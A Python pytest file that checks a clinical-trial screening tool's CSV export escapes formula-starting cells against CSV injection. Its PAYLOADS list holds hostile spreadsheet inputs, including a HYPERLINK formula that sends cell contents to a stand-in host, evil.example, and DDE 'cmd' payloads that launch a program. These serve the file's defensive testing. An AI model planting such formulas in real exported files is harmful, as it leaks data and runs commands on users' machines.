"""candidates.csv against formula injection (issue 11, item 7; OWASP "CSV Injection").

A unit text `=HYPERLINK(...)` reached candidates.csv as a live formula. Every cell that starts
with `=`, `+`, `-`, `@`, tab or carriage return now gets a leading `'`; the value column keeps a
plain number such as `-1.5` as it is.
"""

from __future__ import annotations

import csv
import io

import pytest

from adapter.criteria.results import CriterionResult, Evidence, PatientVerdict, Result, Status
from adapter.report.results import CSV_COLUMNS, candidates_csv, csv_cell

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows(verdict: PatientVerdict) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(candidates_csv([verdict]))))


def verdict(evidence: Evidence, reason: str = "ok") -> PatientVerdict:
    result = CriterionResult(Result.UNKNOWN, reason, (evidence,))
    return PatientVerdict("Patient/p1", Status.POTENTIAL_CANDIDATE, {"hemoglobin": result})


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("column", ["unit", "reason", "reference"])
def test_a_formula_in_a_text_cell_is_escaped_with_a_quote(column: str, payload: str) -> None:
    """Unit text, reason and reference come from the source: each is made inert."""
    evidence = Evidence(
        reference=payload if column == "reference" else "Observation/o1",
        recorded_value=1.0,
        recorded_unit=payload if column == "unit" else "g/dL",
    )
    [row] = rows(verdict(evidence, payload if column == "reason" else "ok"))
    assert row[column] == "'" + payload


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (-1.5, "-1.5"),
        (-0.00002, "-2e-05"),
        (-1e300, "-1e+300"),
        (3.0, "3"),
        (float("-inf"), "'-inf"),
    ],
)
def test_a_plain_negative_number_stays_a_number_in_the_value_column(
    value: float, shown: str
) -> None:
    """`-1.5` is a number to a spreadsheet, never a formula; `-inf` is not plain: escaped."""
    [row] = rows(verdict(Evidence(reference="Observation/o1", recorded_value=value)))
    assert row["value"] == shown


@pytest.mark.parametrize(
    ("text", "number", "expected"),
    [
        ("-1.5", False, "'-1.5"),
        ("-1.5", True, "-1.5"),
        ("-1.5+A1", True, "'-1.5+A1"),
        ("=1", True, "'=1"),
        ("g/dL", False, "g/dL"),
        ("", False, ""),
        (" =1", False, " =1"),
        ("a=b", False, "a=b"),
    ],
)
def test_csv_cell(text: str, number: bool, expected: str) -> None:
    """Only the first character counts; the plain-number exception is the value column's."""
    assert csv_cell(text, number=number) == expected


def test_no_cell_of_the_file_starts_a_formula() -> None:
    """Every column at once: no cell of any row starts with a formula character."""
    evidence = Evidence(
        reference=PAYLOADS[0],
        recorded_value=-2.0,
        recorded_unit=PAYLOADS[1],
        date=PAYLOADS[2],
        threshold=PAYLOADS[3],
    )
    text = candidates_csv([verdict(evidence, PAYLOADS[4])])
    for row in list(csv.reader(io.StringIO(text)))[1:]:
        assert len(row) == len(CSV_COLUMNS)
        for column, cell in zip(CSV_COLUMNS, row, strict=True):
            if column != "value":
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), column
